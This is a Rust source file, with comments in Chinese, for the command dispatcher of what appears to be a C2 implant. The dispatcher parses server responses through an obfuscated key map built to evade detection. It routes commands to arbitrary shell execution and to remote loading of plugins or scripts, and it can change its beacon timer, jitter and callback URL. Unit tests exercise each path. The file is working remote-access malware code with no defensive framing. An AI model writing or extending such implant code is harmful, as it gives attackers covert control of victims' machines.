// 命令分发模块
//
// 把服务端响应解析成命令信封，按优先级路由到处理器：
// 内建特例（session / update / shell / module）→ 动态模块注册表 → 通用输出。
// 未知命令从不报错；畸形信封产出错误报告但绝不中断整个批次。
//
// 线上键名全部来自混淆表，绝不回退明文键。

use log::{debug, error, info, warn};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::sync::Arc;

use crate::config::SharedState;
use crate::error::{AgentError, Result};
use crate::executor::CommandExecutor;
use crate::modules::ModuleRegistry;
use crate::obfuscation::ObfuscationMap;

/// 线上命令信封
#[derive(Debug, Clone)]
pub struct CommandEnvelope {
    pub command_uuid: String,
    pub command: String,
    pub data: Option<Value>,
}

/// 每条命令的执行报告，批量回传为 `{"reports": [...]}`
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct CommandReport {
    pub command_uuid: String,
    pub output: String,
}

/// `module` 命令的载荷
#[derive(Debug, Deserialize)]
struct ModulePayload {
    name: String,
    data: String,
}

/// 按混淆键解析服务端响应，畸形条目跳过并告警
pub fn parse_server_response(
    body: &str,
    obfuscation: &ObfuscationMap,
) -> Result<Vec<CommandEnvelope>> {
    let root: Value = serde_json::from_str(body)
        .map_err(|e| AgentError::Protocol(format!("JSON unmarshal failed: {}", e)))?;

    let keys = &obfuscation.commands;
    if keys.obfuscation_name.is_empty()
        || keys.command_uuid.is_empty()
        || keys.command.is_empty()
        || keys.data.is_empty()
    {
        return Err(AgentError::Protocol(
            "obfuscation config missing required command keys".to_string(),
        ));
    }

    let items = match root.get(&keys.obfuscation_name).and_then(Value::as_array) {
        Some(items) => items,
        None => {
            debug!("No commands array present in response; treating as empty command list");
            return Ok(Vec::new());
        }
    };

    let mut commands = Vec::with_capacity(items.len());
    for item in items {
        let object = match item.as_object() {
            Some(o) => o,
            None => {
                warn!("Skipping command item: not a JSON object");
                continue;
            }
        };
        let command_uuid = match object.get(&keys.command_uuid).and_then(Value::as_str) {
            Some(v) => v.to_string(),
            None => {
                warn!("Skipping command item: missing required obfuscated uuid key");
                continue;
            }
        };
        let command = match object.get(&keys.command).and_then(Value::as_str) {
            Some(v) => v.to_string(),
            None => {
                warn!("Skipping command item: missing required obfuscated command key");
                continue;
            }
        };
        let data = object.get(&keys.data).cloned();

        commands.push(CommandEnvelope {
            command_uuid,
            command,
            data,
        });
    }

    debug!("Successfully parsed response with {} command(s)", commands.len());
    Ok(commands)
}

/// 命令分发器
pub struct Dispatcher {
    state: Arc<SharedState>,
    modules: Arc<ModuleRegistry>,
    obfuscation: Arc<ObfuscationMap>,
}

impl Dispatcher {
    pub fn new(
        state: Arc<SharedState>,
        modules: Arc<ModuleRegistry>,
        obfuscation: Arc<ObfuscationMap>,
    ) -> Self {
        Self {
            state,
            modules,
            obfuscation,
        }
    }

    /// 按接收顺序执行一批命令，报告同序返回
    ///
    /// 返回 (reports, switch_session)。
    pub async fn process_batch(&self, commands: &[CommandEnvelope]) -> (Vec<CommandReport>, bool) {
        let mut reports = Vec::with_capacity(commands.len());
        let mut switch_session = false;

        info!("Received {} command(s) to process", commands.len());
        for (index, command) in commands.iter().enumerate() {
            debug!("Processing command {}/{}", index + 1, commands.len());
            let (report, session) = self.execute(command).await;
            reports.push(report);
            if session {
                switch_session = true;
            }
        }
        (reports, switch_session)
    }

    /// 执行单条命令，产出报告和 switch_session 标志
    pub async fn execute(&self, envelope: &CommandEnvelope) -> (CommandReport, bool) {
        if envelope.command.is_empty() || envelope.command_uuid.is_empty() {
            error!("Invalid command format received (empty command or uuid)");
            return (
                CommandReport {
                    command_uuid: envelope.command_uuid.clone(),
                    output: "Error: Invalid command format from server.".to_string(),
                },
                false,
            );
        }

        let data_str = match &envelope.data {
            Some(Value::Null) | None => String::new(),
            Some(value) => value.to_string(),
        };

        debug!(
            "Executing command: '{}' (uuid: {})",
            envelope.command, envelope.command_uuid
        );

        let keys = &self.obfuscation.commands;
        let (output, switch_session) = if envelope.command == "session" {
            info!("Switching to 'session' mode");
            ("ack".to_string(), true)
        } else if envelope.command == "update" {
            (self.handle_update(envelope.data.as_ref()).await, false)
        } else if !keys.shell.obfuscation_name.is_empty()
            && envelope.command == keys.shell.obfuscation_name
        {
            (CommandExecutor::shell_command(&data_str).await, false)
        } else if !keys.module.obfuscation_name.is_empty()
            && envelope.command == keys.module.obfuscation_name
        {
            (self.handle_module_load(envelope.data.as_ref()).await, false)
        } else if self.modules.has_command(&envelope.command).await {
            debug!("Executing dynamic command: '{}'", envelope.command);
            match self
                .modules
                .execute_from_beacon(&envelope.command, &[], &data_str)
                .await
            {
                Ok(output) => (output, false),
                Err(e) => (format!("Error executing {}: {}", envelope.command, e), false),
            }
        } else {
            debug!("Processing generic command: '{}'", envelope.command);
            (format!("Output for command '{}'", envelope.command), false)
        };

        (
            CommandReport {
                command_uuid: envelope.command_uuid.clone(),
                output,
            },
            switch_session,
        )
    }

    /// `update` 命令：在独占锁下改写 timer / jitter / url
    async fn handle_update(&self, data: Option<&Value>) -> String {
        let object = match data.and_then(Value::as_object) {
            Some(o) => o,
            None => {
                return "Error: Malformed data for 'update' command: expected a JSON object"
                    .to_string()
            }
        };

        let timer = object.get("timer").and_then(Value::as_f64);
        let jitter = object.get("jitter").and_then(Value::as_f64);
        let url = object
            .get("url")
            .and_then(Value::as_str)
            .map(|s| s.to_string());

        self.state.apply_update(timer, jitter, url).await
    }

    /// `module` 命令：解析 {name, data}，委托给加载器
    async fn handle_module_load(&self, data: Option<&Value>) -> String {
        let payload: ModulePayload = match data {
            Some(value) => match serde_json::from_value(value.clone()) {
                Ok(p) => p,
                Err(e) => {
                    error!("Failed to unmarshal module command data: {}", e);
                    return format!("Error: Malformed data for 'module' command: {}", e);
                }
            },
            None => {
                return "Error: Malformed data for 'module' command: missing payload".to_string()
            }
        };

        // 载荷里的 data 是 base64 插件字节或脚本源码，由加载器判别
        match self.modules.load_from_payload(&payload.name, &payload.data).await {
            Ok(()) => format!("Module {} loaded successfully", payload.name),
            Err(e) => {
                error!("Failed to load module {}: {}", payload.name, e);
                format!("Error loading module {}: {}", payload.name, e)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AgentConfig;

    fn plain_obfuscation() -> Arc<ObfuscationMap> {
        Arc::new(
            serde_json::from_str(
                r#"{
                    "implant_info": {
                        "name": "name", "os": "os", "address": "address",
                        "timer": "timer", "jitter": "jitter", "uuid": "uuid"
                    },
                    "commands": {
                        "obfuscation_name": "commands",
                        "command_uuid": "command_uuid",
                        "command": "command",
                        "data": "data",
                        "module": { "obfuscation_name": "module" },
                        "shell": { "obfuscation_name": "shell" }
                    }
                }"#,
            )
            .unwrap(),
        )
    }

    fn dispatcher() -> Dispatcher {
        Dispatcher::new(
            Arc::new(SharedState::new(AgentConfig::default())),
            Arc::new(ModuleRegistry::new()),
            plain_obfuscation(),
        )
    }

    #[test]
    fn test_parse_server_response_well_formed() {
        let obf = plain_obfuscation();
        let body = r#"{"commands":[
            {"command_uuid":"u1","command":"update","data":{"timer":15.0}},
            {"command_uuid":"u2","command":"xyzzy","data":null}
        ]}"#;
        let commands = parse_server_response(body, &obf).unwrap();
        assert_eq!(commands.len(), 2);
        assert_eq!(commands[0].command, "update");
        assert_eq!(commands[1].command_uuid, "u2");
    }

    #[test]
    fn test_parse_server_response_empty_and_missing_array() {
        let obf = plain_obfuscation();
        assert!(parse_server_response(r#"{"commands":[]}"#, &obf).unwrap().is_empty());
        assert!(parse_server_response(r#"{"none":"none"}"#, &obf).unwrap().is_empty());
        assert!(parse_server_response(r#"{}"#, &obf).unwrap().is_empty());
    }

    #[test]
    fn test_parse_server_response_skips_malformed_items() {
        let obf = plain_obfuscation();
        let body = r#"{"commands":[
            {"command_uuid":"u1","command":"good"},
            {"command":"missing-uuid"},
            "not-an-object",
            {"command_uuid":"u2"}
        ]}"#;
        let commands = parse_server_response(body, &obf).unwrap();
        assert_eq!(commands.len(), 1);
        assert_eq!(commands[0].command_uuid, "u1");
    }

    #[test]
    fn test_parse_server_response_obfuscated_keys_no_fallback() {
        let obf: ObfuscationMap = serde_json::from_str(
            r#"{"commands": {
                "obfuscation_name": "updates",
                "command_uuid": "item_id",
                "command": "item_kind",
                "data": "item_body",
                "module": {"obfuscation_name": "component"},
                "shell": {"obfuscation_name": "task"}
            }}"#,
        )
        .unwrap();

        let body = r#"{"updates":[{"item_id":"u1","item_kind":"task","item_body":"\"id\""}]}"#;
        let commands = parse_server_response(body, &obf).unwrap();
        assert_eq!(commands.len(), 1);

        // 明文键名的响应在混淆表下必须解析为空
        let plain = r#"{"commands":[{"command_uuid":"u1","command":"shell"}]}"#;
        assert!(parse_server_response(plain, &obf).unwrap().is_empty());
    }

    #[test]
    fn test_parse_server_response_missing_obfuscation_keys_is_error() {
        let result = parse_server_response(r#"{"commands":[]}"#, &ObfuscationMap::default());
        assert!(matches!(result, Err(AgentError::Protocol(_))));
    }

    #[test]
    fn test_parse_server_response_invalid_json() {
        let obf = plain_obfuscation();
        assert!(parse_server_response("{bad", &obf).is_err());
    }

    #[tokio::test]
    async fn test_unknown_command_generic_output() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u2".to_string(),
            command: "xyzzy".to_string(),
            data: None,
        };
        let (report, switch) = d.execute(&envelope).await;
        assert_eq!(report.output, "Output for command 'xyzzy'");
        assert_eq!(report.command_uuid, "u2");
        assert!(!switch);
    }

    #[tokio::test]
    async fn test_session_command_sets_switch_flag() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u3".to_string(),
            command: "session".to_string(),
            data: None,
        };
        let (report, switch) = d.execute(&envelope).await;
        assert_eq!(report.output, "ack");
        assert!(switch);
    }

    #[tokio::test]
    async fn test_update_command() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u1".to_string(),
            command: "update".to_string(),
            data: Some(serde_json::json!({"timer": 15.0, "jitter": 3.0})),
        };
        let (report, switch) = d.execute(&envelope).await;
        assert_eq!(report.output, "Timer set to 15.000000, Jitter set to 3.000000");
        assert!(!switch);

        let (timer, jitter) = d.state.timing().await;
        assert_eq!((timer, jitter), (15.0, 3.0));
    }

    #[tokio::test]
    async fn test_update_command_malformed_data() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u1".to_string(),
            command: "update".to_string(),
            data: Some(Value::String("not an object".to_string())),
        };
        let (report, _) = d.execute(&envelope).await;
        assert!(report.output.starts_with("Error: Malformed data"));
    }

    #[tokio::test]
    async fn test_shell_command_through_obfuscated_name() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u4".to_string(),
            command: "shell".to_string(),
            data: Some(Value::String("echo hi".to_string())),
        };
        let (report, switch) = d.execute(&envelope).await;
        assert_eq!(report.output, "hi");
        assert!(!switch);
    }

    #[tokio::test]
    async fn test_module_load_interpreted_then_execute() {
        let d = dispatcher();

        let load = CommandEnvelope {
            command_uuid: "u5".to_string(),
            command: "module".to_string(),
            data: Some(serde_json::json!({
                "name": "greeter",
                "data": "fn execute_from_beacon(args, data) { \"hi \" + data }"
            })),
        };
        let (report, _) = d.execute(&load).await;
        assert_eq!(report.output, "Module greeter loaded successfully");

        // 已加载模块按注册表优先级分发
        let run = CommandEnvelope {
            command_uuid: "u6".to_string(),
            command: "greeter".to_string(),
            data: Some(Value::String("there".to_string())),
        };
        let (report, _) = d.execute(&run).await;
        assert_eq!(report.output, "hi \"there\"");
    }

    #[tokio::test]
    async fn test_module_load_malformed_payload() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: "u7".to_string(),
            command: "module".to_string(),
            data: Some(serde_json::json!({"name": "x"})),
        };
        let (report, _) = d.execute(&envelope).await;
        assert!(report.output.starts_with("Error: Malformed data for 'module' command"));
    }

    #[tokio::test]
    async fn test_malformed_envelope_error_report() {
        let d = dispatcher();
        let envelope = CommandEnvelope {
            command_uuid: String::new(),
            command: "shell".to_string(),
            data: None,
        };
        let (report, switch) = d.execute(&envelope).await;
        assert_eq!(report.output, "Error: Invalid command format from server.");
        assert!(!switch);
    }

    #[tokio::test]
    async fn test_batch_order_and_switch_aggregation() {
        let d = dispatcher();
        let commands = vec![
            CommandEnvelope {
                command_uuid: "a".to_string(),
                command: "first".to_string(),
                data: None,
            },
            CommandEnvelope {
                command_uuid: "b".to_string(),
                command: "session".to_string(),
                data: None,
            },
            CommandEnvelope {
                command_uuid: "c".to_string(),
                command: "third".to_string(),
                data: None,
            },
        ];
        let (reports, switch) = d.process_batch(&commands).await;

        // N 条命令恰好 N 份报告，顺序与输入一致
        assert_eq!(reports.len(), 3);
        assert_eq!(reports[0].command_uuid, "a");
        assert_eq!(reports[1].command_uuid, "b");
        assert_eq!(reports[2].command_uuid, "c");
        assert!(switch);
    }

}
